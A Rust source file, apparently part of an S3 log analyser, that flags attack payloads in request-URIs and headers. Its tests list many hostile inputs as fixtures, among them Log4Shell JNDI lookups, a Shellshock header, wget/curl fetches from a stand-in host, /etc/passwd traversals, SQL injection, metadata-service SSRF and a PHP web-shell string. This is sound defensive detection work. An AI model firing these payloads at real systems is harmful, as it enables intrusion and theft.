//! Attack payloads in request-URIs: path traversal, JNDI, SQL, scripts, templates, wrappers, cloud metadata.
//!
//! Nearly all URIs are ordinary, so a scan of the bytes comes first: without a byte or escape that attacks need, there
//! is no payload. Only otherwise is the URI decoded and matched against the patterns of `lists/payloads.regex`. All
//! matching works on bytes, since a URI need not be text.
//!
//! `..` alone is not an attack: clients that do not normalise paths request `a/../b`. It counts if it leaves the root,
//! or if it precedes a file that attackers look for.

use super::lists::{ListError, alternation, entries, syntax};
use regex::bytes::{RegexSet, RegexSetBuilder};
use s3log_parser::value::key::decode_into;

/// Maximum number of decoding rounds.
const MOST_ROUNDS: usize = 3;

/// The kind of payload in a request-URI.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub(crate) enum Payload {
    /// A path that leaves the root.
    Traversal,
    /// A JNDI lookup, evaluated by loggers.
    Jndi,
    /// An SQL fragment.
    Sql,
    /// A script for browsers.
    Xss,
    /// A template expression.
    Template,
    /// A URL for a program to open: `php://input`, `gopher://`.
    Wrapper,
    /// The metadata service of a cloud provider.
    Metadata,
    /// A NUL byte.
    NullByte,
    /// A line break followed by a header.
    Crlf,
    /// A shell command.
    Command,
    /// Code for an interpreter, or a serialized object.
    Code,
}

impl Payload {
    /// Kinds with a section in the list, most significant first.
    const LISTED: [Self; 10] = [
        Self::Jndi,
        Self::Metadata,
        Self::Wrapper,
        Self::Code,
        Self::Command,
        Self::Template,
        Self::Sql,
        Self::Xss,
        Self::Crlf,
        Self::Traversal,
    ];

    /// The name in tables and in the list.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Traversal => "traversal",
            Self::Jndi => "jndi",
            Self::Sql => "sql",
            Self::Xss => "xss",
            Self::Template => "template",
            Self::Wrapper => "wrapper",
            Self::Metadata => "metadata",
            Self::NullByte => "null_byte",
            Self::Crlf => "crlf",
            Self::Command => "command",
            Self::Code => "code",
        }
    }
}

/// The patterns of payloads by kind.
#[derive(Clone, Debug)]
pub(crate) struct PayloadPatterns {
    /// One expression for each of `kinds`.
    set: RegexSet,
    kinds: Vec<Payload>,
    len: usize,
}

impl PayloadPatterns {
    /// The name of the list.
    pub(crate) const NAME: &'static str = "payloads";

    /// Parses a list with sections such as `[sql]`.
    pub(crate) fn parse(text: &str) -> Result<Self, ListError> {
        let mut sections: Vec<(Payload, Vec<(usize, &str)>)> = Payload::LISTED.map(|kind| (kind, Vec::new())).to_vec();
        let mut current = None;
        let mut len = 0;
        for (number, line) in entries(text) {
            if let Some(name) = section(line) {
                current = sections.iter().position(|(kind, _)| kind.name() == name);
                if current.is_none() {
                    let known = Payload::LISTED.map(Payload::name).join(", ");
                    let message = format!("`[{name}]` is not a kind of payload; write one of {known}");
                    return Err(ListError::new(Self::NAME, number, message));
                }
                continue;
            }
            let Some((_, patterns)) = current.and_then(|index| sections.get_mut(index)) else {
                let message = "there is a pattern before the first section; write its kind above it, such as `[sql]`";
                return Err(ListError::new(Self::NAME, number, message));
            };
            syntax(line)
                .map_err(|error| ListError::new(Self::NAME, number, format!("not a regular expression: {error}")))?;
            patterns.push((number, line));
            len += 1;
        }
        sections.retain(|(_, patterns)| !patterns.is_empty());
        let sources = sections.iter().map(|(_, patterns)| alternation(patterns));
        let set =
            RegexSetBuilder::new(sources).case_insensitive(true).unicode(false).dot_matches_new_line(true).build();
        let set = set.map_err(|error| ListError::new(Self::NAME, 0, error.to_string()))?;
        Ok(Self { set, kinds: sections.into_iter().map(|(kind, _)| kind).collect(), len })
    }

    /// Number of patterns.
    pub(crate) fn len(&self) -> usize {
        self.len
    }

    /// Finds the payload in a path with query, which must be as logged: not decoded.
    pub(crate) fn find(&self, uri: &[u8]) -> Option<Payload> {
        if !may_be_one(uri) {
            return None;
        }
        let query = memchr::memchr(b'?', uri).unwrap_or(uri.len());
        let mut decoded = Vec::with_capacity(uri.len());
        decode_into(&uri[..query], false, &mut decoded);
        let mut path = decoded.len();
        decode_into(&uri[query..], true, &mut decoded);
        let mut hidden = decoded.len() < uri.len();
        for round in 0.. {
            if decoded.contains(&0) {
                return Some(Payload::NullByte);
            }
            if let Some(found) = self.of_decoded(&decoded, path, hidden) {
                return Some(found);
            }
            if round + 1 == MOST_ROUNDS || memchr::memchr(b'%', &decoded).is_none() {
                break;
            }
            let mut again = Vec::with_capacity(decoded.len());
            decode_into(&decoded[..path], false, &mut again);
            let again_path = again.len();
            decode_into(&decoded[path..], false, &mut again);
            if again.len() == decoded.len() {
                break;
            }
            (decoded, path, hidden) = (again, again_path, true);
        }
        None
    }

    /// Whether a header contains a JNDI lookup or a shell command, which attack whatever processes the log, regardless
    /// of the response. Other kinds are not checked, since headers may contain arbitrary text.
    pub(crate) fn is_in_header(&self, text: &[u8]) -> bool {
        let has = |beginning: &[u8]| memchr::memmem::find(text, beginning).is_some();
        if memchr::memchr(b'{', text).is_none() || !has(b"${") && !has(b"()") {
            return false;
        }
        let kinds = self.set.matches(text).into_iter().filter_map(|index| self.kinds.get(index).copied());
        kinds.into_iter().any(|kind| matches!(kind, Payload::Jndi | Payload::Command))
    }

    /// Finds the payload in a decoded URI. `hidden`: part of it was encoded.
    fn of_decoded(&self, decoded: &[u8], path: usize, hidden: bool) -> Option<Payload> {
        // Finding which pattern matches is slower than whether one does.
        if self.set.is_match(decoded) {
            let found = self.set.matches(decoded).iter().next();
            return found.and_then(|index| self.kinds.get(index)).copied();
        }
        let (path, query) = decoded.split_at(path);
        let values = || query.split(|byte| matches!(byte, b'&' | b'=' | b'?'));
        let climbs = climbs_out(path, hidden) || values().any(|value| climbs_out(value, true));
        climbs.then_some(Payload::Traversal)
    }
}

/// Parses a section header such as `[sql]`.
pub(super) fn section(line: &str) -> Option<&str> {
    line.strip_prefix('[')?.strip_suffix(']').filter(|name| {
        // `[a-z]` alone is a valid pattern, although a poor one.
        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'_')
    })
}

/// Whether a path leaves its root: it has more `..` than parts before them. An unencoded path that climbs one step too
/// far to an image or a page is just a broken link.
fn climbs_out(path: &[u8], hidden: bool) -> bool {
    // Nearly all paths end here. Constructing a two-byte searcher would cost more than this search.
    if !memchr::memchr_iter(b'.', path).any(|at| path.get(at + 1) == Some(&b'.')) {
        return false;
    }
    let (mut depth, mut lowest, mut backslash) = (0_i32, 0_i32, false);
    for part in path.split(|byte| matches!(byte, b'/' | b'\\')) {
        match part {
            b"" | b"." => {}
            b".." => depth -= 1,
            _ => depth += 1,
        }
        lowest = lowest.min(depth);
    }
    backslash |= memchr::memmem::find(path, b"..\\").is_some();
    let bad_link = lowest == -1 && !hidden && !backslash && leads_to_page(path);
    lowest < 0 && !bad_link
}

/// Whether a path ends like a page or its assets.
fn leads_to_page(path: &[u8]) -> bool {
    const ENDINGS: [&[u8]; 14] = [
        b"/", b".html", b".htm", b".css", b".js", b".png", b".jpg", b".jpeg", b".gif", b".svg", b".webp", b".ico",
        b".woff2", b".woff",
    ];
    ENDINGS
        .iter()
        .any(|ending| path.len() >= ending.len() && path[path.len() - ending.len()..].eq_ignore_ascii_case(ending))
}

/// What a byte may begin.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Class {
    Plain,
    /// Not in ordinary keys and queries, but in attacks.
    Suspicious,
    Dot,
    Colon,
    Star,
    Percent,
    Equals,
    Question,
    /// A space in a form-encoded query.
    Plus,
}

const CLASSES: [Class; 256] = {
    let mut classes = [Class::Plain; 256];
    let suspicious = b"<>'\"`{}|\\;$\0\r\n";
    let mut index = 0;
    while index < suspicious.len() {
        classes[suspicious[index] as usize] = Class::Suspicious;
        index += 1;
    }
    classes[b'.' as usize] = Class::Dot;
    classes[b':' as usize] = Class::Colon;
    classes[b'*' as usize] = Class::Star;
    classes[b'=' as usize] = Class::Equals;
    classes[b'%' as usize] = Class::Percent;
    classes[b'?' as usize] = Class::Question;
    classes[b'+' as usize] = Class::Plus;
    classes
};

/// Whether a URI has what every payload needs. Cheap, with false positives.
fn may_be_one(uri: &[u8]) -> bool {
    let mut in_query = false;
    for (index, byte) in uri.iter().enumerate() {
        match CLASSES[usize::from(*byte)] {
            Class::Plain => {}
            Class::Suspicious => return true,
            Class::Dot if uri.get(index + 1) == Some(&b'.') => return true,
            Class::Colon if uri[index + 1..].starts_with(b"//") => return true,
            Class::Star if matches!(uri.get(index + 1), Some(b'/' | b'*')) => return true,
            Class::Equals if in_query && is_telling_value(uri, index) => return true,
            Class::Question => in_query = true,
            Class::Plus if in_query => return true,
            Class::Percent if is_telling(&uri[index + 1..], in_query) => return true,
            Class::Dot | Class::Colon | Class::Star | Class::Equals | Class::Percent | Class::Plus => {}
        }
    }
    false
}

/// Common first commands of someone probing for a shell.
const COMMANDS: [&[u8]; 12] = [
    b"id",
    b"whoami",
    b"uname",
    b"cat",
    b"ls",
    b"dir",
    b"ipconfig",
    b"ifconfig",
    b"hostname",
    b"systeminfo",
    b"net",
    b"phpinfo",
];

/// Whether a query value, from its `=` on, is a payload of plain words: an address, a serialized object, a command, or
/// the `s=` of ThinkPHP.
fn is_telling_value(query: &[u8], equals: usize) -> bool {
    let value = &query[equals + 1..];
    let starts = |word: &[u8]| value.get(..word.len()).is_some_and(|start| start.eq_ignore_ascii_case(word));
    match value.first() {
        Some(b'1') => starts(b"169.254."),
        Some(b'r' | b'R') => starts(b"ro0ab"),
        Some(b'a' | b'A') => starts(b"aced0005"),
        Some(b'/') => starts(b"/etc/"),
        _ if COMMANDS.iter().any(|command| starts(command)) => true,
        _ => matches!(query[..equals], [.., b'?' | b'&', b's']),
    }
}

/// Whether an escape, without its `%`, may hide something. Slashes, spaces in paths, `=`, `:` and non-ASCII letters are
/// encoded routinely.
fn is_telling(escape: &[u8], in_query: bool) -> bool {
    let [high, low, ..] = escape else { return false };
    match (high, low.to_ascii_lowercase()) {
        (b'0', _) => true,
        // `"`, `$`, `%`, `'`; `.`; `;`; `<`, `>`
        (b'2', b'2' | b'4' | b'5' | b'7' | b'e') | (b'3', b'c' | b'e') => true,
        (b'3', b'b') => !in_query || !escape[2..].starts_with(b"x-amz") && !escape[2..].starts_with(b"range"),
        // A colon before two slashes.
        (b'3', b'a') => {
            escape[2..].starts_with(b"//")
                || escape[2..].get(..6).is_some_and(|next| next.eq_ignore_ascii_case(b"%2f%2f"))
        }
        (b'2', b'0') => in_query,
        // `\`, `` ` ``
        (b'5', b'c') | (b'6', b'0') => true,
        // `{`, `|`, `}`
        (b'7', b'b' | b'c' | b'd') => true,
        // An overlong encoding of a dot or slash; `%u002e`.
        (b'c' | b'C', b'0') | (b'u', _) => true,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_headers_carry() {
        let patterns = PayloadPatterns::parse(include_str!("lists/payloads.regex")).unwrap();
        for (header, expected) in [
            ("${jndi:ldap://198.51.100.9:1389/a}", true),
            ("Mozilla/5.0 ${jndi:${lower:l}${lower:d}a${lower:p}://198.51.100.9/a}", true),
            ("() { :;}; /bin/bash -c id", true),
            ("https://www.example.com/${page}", false),
            ("https://www.example.com/?q=<script>alert(1)</script>", false),
            ("Mozilla/5.0 (X11; Linux x86_64) {build}", false),
            ("f() {}", false),
            ("", false),
        ] {
            assert_eq!(patterns.is_in_header(header.as_bytes()), expected, "{header}");
        }
    }

    #[test]
    fn what_uris_carry() {
        let patterns = PayloadPatterns::parse(include_str!("lists/payloads.regex")).unwrap();
        let mut wrong = Vec::new();
        for (uri, expected) in [
            // Web shells that may have been uploaded.
            ("/up/tunnel.jsp?pass=1&cmd=cat%20/etc/passwd", "command"),
            ("/a.asp?c=whoami", "command"),
            ("/test.php%253B.jpg?cmd=id", "command"),
            ("/web.config?cmd=id", "command"),
            ("/x?file=/etc/passwd", "traversal"),
            ("/list?sort=id&dir=asc&c=id", ""),
            ("/list.php?c=idea", ""),
            ("/docs?page=/etc/apt/sources.list", ""),
            // Path traversal.
            ("/../../../etc/passwd", "traversal"),
            ("/bucket/../../etc/passwd", "traversal"),
            ("/a/..%2f..%2f..%2fetc%2fpasswd", "traversal"),
            ("/%2e%2e/%2e%2e/win.ini", "traversal"),
            ("/%252e%252e%252f%252e%252e%252fetc/passwd", "traversal"),
            ("/..%5c..%5cwindows/win.ini", "traversal"),
            ("/static/..;/manager/html", "traversal"),
            ("/%c0%ae%c0%ae/etc/passwd", "traversal"),
            ("/x?file=../../../../proc/self/environ", "traversal"),
            ("/x?file=a/b/c/../WEB-INF/web.xml", "traversal"),
            ("/a/b/c/d/../etc/passwd", "traversal"),
            ("/../secret", "traversal"),
            ("/a/../b.png", ""),
            ("/bucket/a/./b/../c.html", ""),
            ("/../images/logo.png", ""),
            ("/a..b/c...d/..e", ""),
            ("/backup/2024..2025.zip", ""),
            // JNDI lookups.
            ("/${jndi:ldap://203.0.113.9/a}", "jndi"),
            ("/?x=$%7Bjndi:ldap://203.0.113.9/a%7D", "jndi"),
            ("/?x=${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}", "jndi"),
            ("/?q=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2F203.0.113.9%7D", "jndi"),
            ("/release/${VERSION}/app.zip", ""),
            // SQL.
            ("/?id=1%27%20OR%20%271%27=%271", "sql"),
            ("/?id=1'+or+1=1--", "sql"),
            ("/?id=1%20AND%201=1", "sql"),
            ("/?id=-1+union+all+select+1,2,3", "sql"),
            ("/?id=-1/**/union/**/select/**/1,user()", "sql"),
            ("/?id=1;drop+table+users", "sql"),
            ("/?id=1');DROP+TABLE+users--", "sql"),
            ("/?id=1'%20order%20by%2010--%20-", "sql"),
            ("/?id=1+and+sleep(5)", "sql"),
            ("/?id=1;waitfor+delay+'0:0:5'", "sql"),
            ("/?prefix=a'b", ""),
            ("/?prefix=O'Brien's+and+sons=1/", ""),
            ("/?list-type=2&prefix=select/", ""),
            ("/?list-type=2&prefix=select+from+the+union/", ""),
            ("/union-select-report.pdf", ""),
            ("/reports/union%20select%20committee.pdf", ""),
            ("/music/sleep(1).mp3", ""),
            ("/music/Rock%20'n'%20Roll%20or%20Blues.mp3", ""),
            // Scripts.
            ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
            ("/?q=<img+src=x+onerror=alert(1)>", "xss"),
            ("/?q=\"onmouseover=alert(1)", "xss"),
            ("/?u=javascript:alert(document.domain)", ""),
            ("/?u=javascript%3Aalert(1)%22", "xss"),
            ("/%253Cscript%253Ealert(1)%253C/script%253E", "xss"),
            ("/notes/a<b>c.txt", ""),
            ("/scripts/javascript.js", ""),
            // Templates.
            ("/?name={{7*7}}", "template"),
            ("/?name=%24%7B7*7%7D", "template"),
            ("/?name={{''.__class__.__mro__}}", "template"),
            ("/?x=%{(%23_memberAccess)}", "template"),
            ("/posts/{{ post.slug }}.html", ""),
            ("/posts/%7B%7B%20image%20%7D%7D", ""),
            // Wrappers and metadata.
            ("/?file=php://filter/convert.base64-encode/resource=index.php", "wrapper"),
            ("/?u=gopher%3A%2F%2F203.0.113.9:6379/_", "wrapper"),
            ("/?u=file:///etc/passwd", "wrapper"),
            ("/?url=http://169.254.169.254/latest/meta-data/", "metadata"),
            ("/?url=http%3A%2F%2F169.254.169.254%2F", "metadata"),
            ("/?url=169.254.169.254", "metadata"),
            ("/?u=http://metadata.google.internal/computeMetadata/v1/", "metadata"),
            ("/file:///C:/Users/me/logo.png", ""),
            ("/proxy/http://example.com/a.png", ""),
            ("/?marker=2024-03-01T10%3A00%3A00Z", ""),
            ("/graphs/169.254.csv", ""),
            // Bytes.
            ("/a%00.jpg", "null_byte"),
            ("/a%2500.jpg", "null_byte"),
            ("/%0d%0aSet-Cookie:%20a=b", "crlf"),
            ("/x?u=%0D%0ALocation:%20http://example.com", "crlf"),
            ("/notes/line%0Abreak.txt", ""),
            // Commands and code.
            ("/?x=;cat+/etc/hostname", "command"),
            ("/?x=|id|", "command"),
            ("/?x=$(curl+203.0.113.9)", "command"),
            ("/?x=`whoami`", "command"),
            ("/?x=;wget+http://203.0.113.9/a.sh", "command"),
            ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array", "code"),
            ("/?s=index/think%5Capp/invokefunction", "code"),
            ("/?class.module.classLoader.resources=%20", "code"),
            ("/?x=<?php+system($_GET[1]);?>", "code"),
            // Ordinary requests.
            ("/bucket/photos/2024/03/part-00012.parquet?x-id=GetObject", ""),
            (
                "/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIDEXAMPLE%2F20260131%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20260131T000000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host%3Bx-amz-date&X-Amz-Signature=00ff",
                "",
            ),
            ("/k?AWSAccessKeyId=AKIDEXAMPLE&Expires=1&Signature=a%2Bb%3D", ""),
            ("/k?response-content-disposition=attachment;%20filename=\"a b (1).txt\"&X-Amz-Signature=0", ""),
            ("/k?response-content-disposition=attachment%3B%20filename%3D%22cat%20id.txt%22", ""),
            ("/k?response-content-disposition=attachment%3Bfilename*%3DUTF-8%27%27na%25C3%25AFve.pdf", ""),
            ("/k?response-content-type=text%2Fhtml%3B%20charset%3Dutf-8", ""),
            ("/?list-type=2&prefix=a%27b%22c%2F&delimiter=%2F&encoding-type=url", ""),
            ("/?list-type=2&start-after=it%27s%20a%20%22test%22%20%28v2%29", ""),
            ("/a%20(copy)%20%5B2%5D%20%7Bdraft%7D.docx", ""),
            ("/price$list/100%25.csv", ""),
            ("/t/dir_%24folder%24", ""),
            ("/t/date_%3D2021-03-14/x", ""),
            ("/%E6%97%A5%E6%9C%AC/%C3%A9t%C3%A9.jpg", ""),
            ("/a;v=1/b", ""),
            ("/?delete", ""),
            ("/?versions&prefix=a|b", ""),
            ("/q?x=cats+and+dogs+or+birds", ""),
            ("/q?x=Tom+%26+Jerry%3B+rm+is+a+room", ""),
            ("", ""),
            ("*", ""),
        ] {
            let found = patterns.find(uri.as_bytes()).map_or("", Payload::name);
            if found != expected {
                wrong.push(format!("{uri}: {found}, not {expected}"));
            }
        }
        assert!(wrong.is_empty(), "{wrong:#?}");
    }

    #[test]
    fn bytes_that_are_no_text() {
        let patterns = PayloadPatterns::parse(include_str!("lists/payloads.regex")).unwrap();
        assert_eq!(patterns.find(b"/\xff\xfe%ff"), None);
        assert_eq!(patterns.find(b"/\xff?x='+or+'1'='1"), Some(Payload::Sql));
    }

    #[test]
    fn errors_name_the_line() {
        for (text, line, message) in [
            ("# none\nunion\n", 2, "before the first section"),
            ("[sqli]\n", 1, "`[sqli]` is not a kind of payload; write one of jndi, metadata"),
            ("[sql]\na\n(b\n", 3, "not a regular expression: unclosed group"),
        ] {
            let error = PayloadPatterns::parse(text).unwrap_err();
            assert_eq!(error.line, line, "{error}");
            assert!(error.message.contains(message), "{error}");
        }
        assert_eq!(PayloadPatterns::parse("[sql]\na\nb\n[xss]\nc\n").unwrap().len(), 3);
    }
}
